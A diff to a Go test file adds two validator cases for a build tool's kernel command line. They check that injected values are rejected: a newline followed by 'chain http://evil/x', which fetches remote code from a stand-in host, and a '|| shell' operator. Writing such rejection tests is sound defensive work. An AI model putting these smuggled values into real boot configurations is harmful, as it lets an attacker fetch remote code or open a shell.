@@ -168,6 +168,8 @@ func TestErrors(t *testing.T) {
 		{"accel", "qemu:\n  accel: hvf\n", nil, []string{"qemu.accel: unknown accelerator"}},
 		{"bad name", "name: \"a b\"\n", nil, []string{"name:", "not a usable build name"}},
 		{"env value", "arch: amd64\n", map[string]string{"RLBUILD_ARCH": "sparc"}, []string{"environment variable RLBUILD_ARCH: arch: unknown arch \"sparc\""}},
+		{"env cmdline line break", "arch: amd64\n", map[string]string{"RLBUILD_KERNEL_CMDLINE": "console=ttyS0\nchain http://evil/x"}, []string{"environment variable RLBUILD_KERNEL_CMDLINE: kernel.cmdline: the kernel command line contains a control character", "one line"}},
+		{"cmdline operator", "kernel:\n  cmdline: quiet || shell\n", nil, []string{"kernel.cmdline: kernel command line:", "would chain another iPXE command"}},
 		{"env typo", "arch: amd64\n", map[string]string{"RLBUILD_ARHC": "arm64"}, []string{"environment variable RLBUILD_ARHC: sets no configuration key", "RLBUILD_ARCH"}},
 		{"source elsewhere", "source: /\n", nil, []string{"source:", "no go.mod"}},
 	} {
